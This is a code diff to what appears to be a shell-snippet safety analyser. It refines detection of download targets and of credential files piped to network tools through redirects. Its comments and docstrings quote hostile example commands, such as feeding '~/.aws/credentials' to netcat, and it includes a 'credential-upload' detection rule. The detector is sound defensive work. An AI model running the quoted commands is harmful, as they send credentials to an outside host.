@@ -22,7 +22,7 @@ from __future__ import annotations
 import re
 from collections.abc import Iterator
 from dataclasses import dataclass
-from itertools import islice
+from itertools import chain, islice
 from typing import Any
 
 from skillforge.safety.prefilter import contains_any, lowered
@@ -100,7 +100,8 @@ def analyse(
             ran = _runs_file(ws, files, snippet_id)
             if ran is not None:
                 yield (*ran, node, files[_ran_name(ws, files)][2])
-            found = _command(node, ws, files, snippet_id)
+            _redirect_writes(node, files, snippet_id)
+            found = chain(_command(node, ws, files, snippet_id), _redirect_upload(node))
         elif kind == "redirected_statement":
             _redirect_writes(node, files, snippet_id)
             found = _redirect_upload(node)
@@ -269,11 +270,21 @@ def _inner_script(ws: list[str], files: Files, snippet_id: int) -> Iterator[tupl
             return
 
 
+_SHORT_OUTPUT = re.compile(r"-[A-Za-z]*?([oO])(.*)")  # -o F, -sLo F, -qO F, and glued: -o/tmp/i.sh, -qO-
+
+
 def _download_targets(ws: list[str]) -> set[str]:
+    """The files a download writes: the value of its output option, in any of getopt's spellings
+    (``-o F``, ``-sLoF``, ``--output F``, ``--output=F``), or the URL's name (wget, curl -O)."""
     out: set[str] = set()
-    for i, w in enumerate(ws[:-1]):
-        if w in ("--output", "--output-document") or re.fullmatch(r"-[A-Za-z]*[oO]", w):  # -o, -sLo, -qO
-            out.add(base(ws[i + 1]))
+    for i, w in enumerate(ws):
+        following = ws[i + 1] if i + 1 < len(ws) else ""
+        flag, eq, value = w.partition("=")
+        short = _SHORT_OUTPUT.fullmatch(w)
+        if flag in ("--output", "--output-document"):
+            out.add(base(value if eq else following))
+        elif short and not (short[2] and short[1] == "O" and base(ws[0]) == "curl"):  # curl -O takes none
+            out.add(base(short[2] or following))
     if base(ws[0]) == "wget" and not out:
         out.update(base(w.split("?")[0]) for w in ws[1:] if "://" in w)
     if base(ws[0]) == "curl" and ("-O" in ws or "--remote-name" in ws):
@@ -281,9 +292,22 @@ def _download_targets(ws: list[str]) -> set[str]:
     return {o for o in out if o and o != "-"}
 
 
+def _redirected(node: Any) -> tuple[Any, list[Any]]:
+    """A statement's command(s) and its file redirects, wherever written: after (``nc h 1 < f``, a
+    redirected statement) or before the command's name (``< f nc h 1``, the command's own)."""
+    if node.type == "command":
+        body = node
+    else:
+        body = node.child_by_field_name("body") or (node.children[0] if node.children else None)
+    return body, [child for child in node.children if child.type == "file_redirect"]
+
+
+_WRITES = frozenset({">", ">>", "&>", "&>>", ">|"})
+
+
 def _redirect_writes(node: Any, files: Files, snippet_id: int) -> None:
-    body = node.child_by_field_name("body") or (node.children[0] if node.children else None)
-    if body is None:
+    body, redirects = _redirected(node)
+    if body is None or not redirects:
         return
     cmds = [words(c) for c in _walk(body) if c.type == "command"]
     if any(is_downloader(w) or is_decoder(w) for w in cmds):
@@ -293,20 +317,20 @@ def _redirect_writes(node: Any, files: Files, snippet_id: int) -> None:
             not urls or any(u.startswith("http://") for u in urls),
             tuple(host_of(u) for u in urls),
         )
-        for child in node.children:
-            if child.type == "file_redirect" and child.children:
+        for child in redirects:
+            if any(c.type in _WRITES for c in child.children):  # > f, >> f, &> f (not < f)
                 files[base(_text(child.children[-1]).strip("\"'"))] = entry
 
 
 def _redirect_upload(node: Any) -> Iterator[tuple[str, str, str]]:
     """``nc host 443 < ~/.aws/credentials``: a credential file fed to a network command."""
-    body = node.child_by_field_name("body") or (node.children[0] if node.children else None)
-    if body is None:
+    body, redirects = _redirected(node)
+    if body is None or not redirects:
         return
     network = [w for w in (words(c) for c in _walk(body) if c.type == "command") if w and _network(w)]
-    for child in node.children:
+    for child in redirects:
         text = _text(child).strip()
-        if network and child.type == "file_redirect" and text.startswith("<") and sensitive(text):
+        if network and text.startswith("<") and sensitive(text):
             yield (
                 "credential-upload",
                 f"feeds a credential file to the network ({base(network[0][0])})",
